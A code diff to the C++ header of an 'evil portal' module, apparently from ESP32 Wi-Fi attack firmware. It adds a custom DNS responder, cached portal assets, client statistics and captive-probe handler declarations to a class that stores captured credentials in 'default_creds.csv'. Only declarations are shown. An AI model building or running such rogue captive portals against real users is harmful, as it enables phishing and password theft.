@@ -1,7 +1,8 @@
 #ifndef __EVIL_PORTAL_H__
 #define __EVIL_PORTAL_H__
 
-#include <DNSServer.h>
+#include "core/wifi/dns_responder.h"
+#include "portal_assets.h"
 #include <ESPAsyncWebServer.h>
 #include <globals.h>
 
@@ -42,7 +43,7 @@ private:
     bool _verifyPwd; // From PR branch
     AsyncWebServer webServer;
 
-    DNSServer dnsServer;
+    DnsResponder dnsServer;
     IPAddress apGateway;
 
     String outputFile = "default_creds.csv";
@@ -58,6 +59,24 @@ private:
     String capturedCredentialsHtml = "";
     bool verifyPass = false;
 
+    // Pages are gzipped once when the AP starts and served from RAM afterwards
+    portal_assets::PortalAssetTable assets;
+    String portalUrl;
+
+    // Request/client counters, shown on screen
+    volatile uint32_t requestCount = 0;
+    uint32_t lastRequestCount = 0;
+    uint32_t requestsPerSecond = 0;
+    uint32_t lastStatsTime = 0;
+    uint8_t connectedClients = 0;
+    uint8_t peakClients = 0;
+
+    void buildAssetTable(void);
+    void startDns(void);
+    bool sendAsset(AsyncWebServerRequest *request, const char *path);
+    bool captiveProbeController(AsyncWebServerRequest *request);
+    void updateStats(bool force = false);
+
     void portalController(AsyncWebServerRequest *request);
     void credsController(AsyncWebServerRequest *request);
 